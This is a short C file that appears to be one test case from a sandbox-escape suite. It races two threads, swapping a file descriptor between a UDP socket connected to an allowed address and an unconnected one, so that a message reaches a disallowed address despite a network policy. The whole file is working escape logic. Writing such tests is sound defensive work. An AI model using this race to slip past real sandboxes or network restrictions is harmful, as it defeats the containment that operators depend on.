// escape: swaps a connected socket, which needs no address, for one that is not, under the same number
// group: descriptor tricks
// policy: network
// attempts: 20000
#include "escape.h"

enum { kNumber = 100 };
static int sockets[2];

static void* swap(void* unused) {
  unsigned seed = 1;
  for (int i = 0;; i = !i) {
    dup2(sockets[i], kNumber);
    moment(&seed);
  }
  return unused;
}

static void attack(void) {
  struct sockaddr_in to = stranger(), allowed = the_friend();
  sockets[0] = udp(AF_INET);
  sockets[1] = udp(AF_INET);
  if (connect(sockets[0], ADDRESS(allowed)) < 0) broken("connect");
  dup2(sockets[0], kNumber);
  thread(swap, NULL);
  struct iovec part = {"x", 1};
  struct msghdr message = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &part, .msg_iovlen = 1};
  while (more()) sendmsg(kNumber, &message, 0);
}
